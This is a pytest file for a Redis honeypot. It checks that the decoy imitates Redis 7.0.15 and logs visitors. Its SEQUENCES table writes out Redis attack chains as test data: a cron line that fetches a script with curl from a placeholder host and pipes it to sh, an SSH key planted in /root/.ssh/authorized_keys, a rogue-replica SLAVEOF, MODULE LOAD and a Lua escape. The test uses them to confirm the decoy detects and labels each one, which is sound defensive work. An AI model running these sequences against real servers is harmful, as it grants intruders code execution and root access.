"""redis on a decoy, through redis-cli and redis-py, and what the log tells of it."""

import asyncio
import hashlib
import json
import re
import time

import pytest
import redis.asyncio as redis_py

from decnet.decoy.fleet import handler
from decnet.events import EventType
from decnet.services.redis import connection

from .conftest import rendered, run
from .redis_oracle import OPEN, Raw, encode, exchange, real_redis

VERSION = {"redis_version": "7.0.15"}


async def cli(port: int, *words: str, stdin: bytes = b"") -> str:
    done = await run("redis-cli", "-p", str(port), *words, input=stdin)
    return done.stdout.decode()


async def test_a_visitor_finds_keys_reads_and_writes_them(serve):
    running = await serve("redis", VERSION)
    keys = (await cli(running.port, "--scan")).split()
    assert len(keys) > 15
    assert int(await cli(running.port, "DBSIZE")) == len(keys)
    session = next(key for key in keys if ":session:" in key)
    assert json.loads(await cli(running.port, "--raw", "GET", session))["uid"] > 0
    assert 0 < int(await cli(running.port, "TTL", session)) <= 86400
    assert await cli(running.port, stdin=b"SET mine 1\nINCR mine\nGET mine\n") == "OK\n2\n2\n"
    assert await cli(running.port, "GET", "mine") == "2\n", (
        "what was left there is there for the next connection"
    )


async def test_redis_cli_reports(serve):
    running = await serve("redis", VERSION)
    assert "Biggest  " in await cli(running.port, "--bigkeys")
    assert "1# " in await cli(
        running.port,
        "-3",
        "--no-raw",
        "HGETALL",
        (await cli(running.port, "--scan", "--pattern", "*:config")).strip(),
    )
    info = await cli(running.port, "INFO")
    assert "redis_version:7.0.15\r\n" in info
    assert int(re.search(r"uptime_in_days:(\d+)", info)[1]) >= 35


async def test_info_has_the_fields_of_the_real_one(serve, tmp_path):
    running = await serve("redis", VERSION)
    async with real_redis(tmp_path, *OPEN) as port:
        for section in ("everything", "default", "server", "nonsense"):
            ours = await cli(running.port, "INFO", section)
            real = await cli(port, "INFO", section)
            names = [
                [line.split(":")[0] for line in text.splitlines() if not re.match(r"db\d|cmdstat_|latency_p|errorstat_", line)]
                for text in (ours, real)
            ]  # fmt: skip
            assert names[0] == names[1], section


async def test_info_moves(serve):
    running = await serve("redis", VERSION)
    first, second = [await cli(running.port, "INFO", "stats") for _ in range(2)]
    counts = [int(re.search(r"total_commands_processed:(\d+)", text)[1]) for text in (first, second)]
    assert counts[1] > counts[0]
    client = await Raw.to(running.port)
    assert "connected_clients:2" in await cli(running.port, "INFO", "clients")
    await client.close()


async def test_parameters_are_those_of_the_real_one(serve, tmp_path):
    running = await serve("redis", VERSION)
    async with real_redis(tmp_path) as port:
        ours, real = [
            (await cli(one, "CONFIG", "GET", "*")).splitlines()[::2] for one in (running.port, port)
        ]
    assert sorted(ours) == sorted(real)


@pytest.mark.parametrize("protocol", [2, 3])
async def test_redis_py(serve, protocol):
    running = await serve("redis", VERSION | {"password": "s3cret"})
    client = redis_py.Redis(port=running.port, password="s3cret", protocol=protocol)
    try:
        assert await client.ping()
        await client.hset("h", mapping={"a": "1"})
        assert await client.hgetall("h") == {b"a": b"1"}
        async with client.pipeline(transaction=True) as pipe:
            results = await pipe.set("a", 1).incr("a").execute()
        assert results[1] == 2
        listener = client.pubsub()
        await listener.subscribe("news")
        assert (await listener.get_message(timeout=2))["type"] == "subscribe"
        assert await client.publish("news", "hello") == 1
        assert (await listener.get_message(timeout=2))["data"] == b"hello"
        await listener.aclose()
        assert (await client.info())["redis_version"] == "7.0.15"
    finally:
        await client.aclose()


async def test_passwords_are_told_with_their_outcome(serve):
    running = await serve("redis", VERSION | {"password": "s3cret"})
    got, _ = await exchange(running.port, b"GET a\r\nAUTH wrong\r\nAUTH default s3cret\r\nPING\r\n")
    assert got.startswith(b"-NOAUTH Authentication required.\r\n-WRONGPASS ")
    assert got.endswith(b"+OK\r\n+PONG\r\n")
    first, second = [(await running.event(EventType.AUTH)).data for _ in range(2)]
    assert first == {
        "principal": "default", "secret": "wrong", "secret_kind": "plaintext", "outcome": "failure"
    }  # fmt: skip
    assert second["outcome"] == "success"
    assert not [e for e in running.events if e.type == EventType.COMMAND and "s3cret" in str(e.data)]


KEY = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 root@kali\n\n"
SEQUENCES = {
    "cron": ([("SET", "x", "\n*/1 * * * * curl http://198.51.100.66/x.sh|sh\n"), ("CONFIG", "SET", "dir", "/var/spool/cron"),
              ("CONFIG", "SET", "dbfilename", "root"), ("SAVE",)], "cron-write", True),
    "ssh key": ([("FLUSHALL",), ("SET", "crackit", KEY), ("CONFIG", "SET", "dir", "/root/.ssh"),
                 ("CONFIG", "SET", "dbfilename", "authorized_keys"), ("BGSAVE",)], "ssh-key-write", True),
    "rogue replica": ([("SLAVEOF", "198.51.100.66", "21000")], "rogue-replica", False),
    "module": ([("MODULE", "LOAD", "/tmp/exp.so")], "module-load", False),
    "lua": ([("EVAL", 'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")', "0")], "lua-escape", False),
}  # fmt: skip


@pytest.mark.parametrize(("commands", "technique", "writes"), SEQUENCES.values(), ids=SEQUENCES)
async def test_the_usual_attacks_go_on_and_are_named(serve, commands, technique, writes):
    running = await serve("redis", VERSION)
    client = await Raw.to(running.port)
    replies = [await client.ask(*words) for words in commands]
    await client.close()
    if writes:
        assert all(reply[:1] == b"+" for reply in replies)
        upload = (await running.event(EventType.UPLOAD)).data
        payload = next(words[2] for words in commands if words[0] == "SET").encode()
        assert upload["sha256"] == hashlib.sha256(payload).hexdigest()
        assert upload["technique"] == technique
    labels = [e.data.get("technique") for e in running.events if e.type == EventType.COMMAND]
    assert technique in labels


async def test_a_hardened_server_refuses_them_as_redis_7_does(serve):
    running = await serve("redis", VERSION | {"hardened": True})
    assert "can't set protected config" in await cli(running.port, "CONFIG", "SET", "dir", "/tmp")
    assert "MODULE command not allowed" in await cli(running.port, "MODULE", "LOAD", "x")


async def test_monitor_shows_what_others_do(serve):
    running = await serve("redis", VERSION)
    watcher, other = await Raw.to(running.port), await Raw.to(running.port)
    assert await watcher.ask("MONITOR") == b"+OK\r\n"
    await other.ask("SET", "a", 'b"\n')
    line = await watcher.reply()
    assert re.fullmatch(rb'\+\d+\.\d{6} \[0 127\.0\.0\.1:\d+\] "SET" "a" "b\\"\\n"\r\n', line)
    await watcher.close()
    await other.close()


async def test_a_blocked_client_is_woken(serve):
    running = await serve("redis", VERSION)
    waiting, other = await Raw.to(running.port), await Raw.to(running.port)
    waiting.writer.write(encode("BLPOP", "jobs", "5"))
    await asyncio.sleep(0.05)
    assert await other.ask("RPUSH", "jobs", "one") == b":1\r\n"
    assert await waiting.reply() == b"*2\r\n$4\r\njobs\r\n$3\r\none\r\n"
    await waiting.close()
    await other.close()


async def test_memory_is_bounded(serve):
    running = await serve("redis", VERSION)
    client = await Raw.to(running.port)
    replies = [await client.ask("SET", f"k{n}", b"x" * 900_000) for n in range(12)]
    assert replies[0] == b"+OK\r\n"
    assert replies[-1] == b"-OOM command not allowed when used memory > 'maxmemory'.\r\n"
    assert (await client.ask("SETRANGE", "far", "500000000", "x")).startswith(b"-OOM")
    assert (await client.ask("SET", "big", b"x" * 5_000_000)).startswith(b"-OOM")
    assert await client.ask("FLUSHALL") == b"+OK\r\n"
    assert await client.ask("SET", "k", b"x" * 900_000) == b"+OK\r\n"
    await client.close()


async def test_every_command_of_7_0_is_there(serve):
    running = await serve("redis", VERSION)
    assert await cli(running.port, "COMMAND", "COUNT") == "240\n"


async def test_redis_cli_stat(serve):
    running = await serve("redis", VERSION)
    process = await asyncio.create_subprocess_exec(
        "redis-cli", "-p", str(running.port), "-i", "0.05", "--stat", stdout=asyncio.subprocess.PIPE
    )
    async with asyncio.timeout(10):
        lines = [await process.stdout.readline() for _ in range(4)]
    process.kill()
    await process.wait()
    assert lines[1].split()[:2] == [b"keys", b"mem"]
    first, later = [int(re.search(rb"(\d+) \(\+\d+\)", line)[1]) for line in lines[2:4]]
    assert later > first, "each look counts as a request"


async def test_a_replica_gets_a_readable_snapshot(serve, tmp_path):
    running = await serve("redis", VERSION)
    file = tmp_path / "dump.rdb"
    assert b"Transfer finished with success" in (
        await run("redis-cli", "-p", str(running.port), "--rdb", str(file))
    ).stderr  # fmt: skip
    checked = (await run("redis-check-rdb", str(file))).stdout.decode()
    assert "\\o/ RDB looks OK! \\o/" in checked, checked
    assert int(re.search(r"(\d+) keys read", checked)[1]) > 15


async def test_a_real_server_restores_what_is_dumped_and_the_other_way_round(serve, tmp_path):
    running = await serve("redis", VERSION)
    async with real_redis(tmp_path, *OPEN) as port:
        ours, real = redis_py.Redis(port=running.port), redis_py.Redis(port=port)
        for client in (ours, real):
            await client.flushall()
            await client.rpush("list", *range(20))
            await client.hset("hash", "name", "x" * 300)
            await client.zadd("zset", {"a": 1.5, "b": -2})
            await client.sadd("set", "a", "bc")
            await client.set("packed", "ab" * 500)
        for key in ("list", "hash", "zset", "set", "packed"):
            await real.restore(key, 0, await ours.dump(key), replace=True)
        assert await real.lrange("list", 0, -1) == [b"%d" % n for n in range(20)]
        assert await real.zrange("zset", 0, -1, withscores=True) == [(b"b", -2.0), (b"a", 1.5)]
        await ours.restore("packed", 0, await real.dump("packed"), replace=True)
        assert await ours.get("packed") == b"ab" * 500
        await ours.aclose()
        await real.aclose()


async def test_a_wrong_password_takes_as_long_as_at_the_real_server(serve, tmp_path):
    running = await serve("redis", VERSION | {"password": "s3cret"})
    async with real_redis(tmp_path, *OPEN, "--requirepass", "s3cret") as port:
        for one in (running.port, port):
            client = await Raw.to(one)
            for wrong in ("x", "s3cre", "x" * 500):
                taken = []
                for _ in range(20):
                    started = time.perf_counter()
                    assert (await client.ask("AUTH", wrong)).startswith(b"-WRONGPASS")
                    taken.append(time.perf_counter() - started)
                assert min(taken) < 0.01, "neither makes anybody wait"
            await client.close()


async def test_a_client_that_never_reads_is_cut_off(serve, monkeypatch):
    monkeypatch.setattr(connection, "WRITE_PATIENCE", 0.3)
    running = await serve("redis", VERSION)
    greedy = await Raw.to(running.port)
    await greedy.ask("SET", "big", b"x" * 900_000)
    greedy.writer.transport.pause_reading()
    greedy.writer.write(encode("GET", "big") * 200)
    closed = await running.event(EventType.CLOSE)
    assert closed.data["sent"] < 50_000_000
    assert len(running.listener.handler.state.clients) == 0
    greedy.writer.transport.abort()


async def test_a_client_that_does_not_read_or_dawdles_blocks_nobody(serve):
    running = await serve("redis", VERSION)
    slow = await Raw.to(running.port)
    slow.writer.write(b"*1\r\n$4\r\nPI")
    greedy = await Raw.to(running.port)
    await greedy.ask("SET", "big", b"x" * 900_000)
    greedy.writer.write(encode("GET", "big") * 200)
    assert await cli(running.port, "PING") == "PONG\n"
    slow.writer.write(b"NG\r\n")
    assert await slow.reply() == b"+PONG\r\n"
    await slow.close()
    greedy.writer.transport.abort()


async def test_a_pipeline_is_answered_in_order(serve):
    running = await serve("redis", VERSION)
    client = await Raw.to(running.port)
    client.writer.write(b"".join(encode("ECHO", str(n)) for n in range(3000)))
    replies = [await client.reply() for _ in range(3000)]
    assert replies == [b"$%d\r\n%d\r\n" % (len(str(n)), n) for n in range(3000)]
    await client.close()
    commands = [e for e in running.events if e.type == EventType.COMMAND]
    assert len(commands) == 1000
    assert commands[-1].data["last"]


async def test_a_live_change_keeps_what_visitors_left(serve):
    running = await serve("redis", VERSION)
    await cli(running.port, "SET", "left", "behind")
    old = running.listener.handler
    new = handler(rendered("redis", VERSION | {"password": "new"}), old)
    assert new.state.dataset.databases[0].values[b"left"] == b"behind"
    assert new.state.config["requirepass"] == b"new"


def test_two_decoys_share_no_token():
    handlers = [handler(rendered("redis", VERSION, name=name)) for name in ("a", "b")]
    one, other = [dict(server.state.dataset.databases[0].values) for server in handlers]
    assert not {key for key in one if b"session" in key} & set(other)
    again = handler(rendered("redis", VERSION, name="a")).state.dataset.databases[0].values
    assert list(one) == list(again), "the same decoy has the same keys after a restart"


@pytest.mark.live
async def test_nmap_takes_it_for_redis(serve):
    running = await serve("redis", VERSION)
    done = await run(
        "nmap", "-Pn", "-n", "-sV", "--version-all", "--script", "redis-info",
        "-p", str(running.port), "127.0.0.1", timeout=100,
    )  # fmt: skip
    told = done.stdout.decode()
    # The scripts run by port or by service name: with -sV both lead there.
    assert re.search(r"open\s+redis\s+Redis key-value store 7\.0\.15", told), told
    assert "Role: master" in told
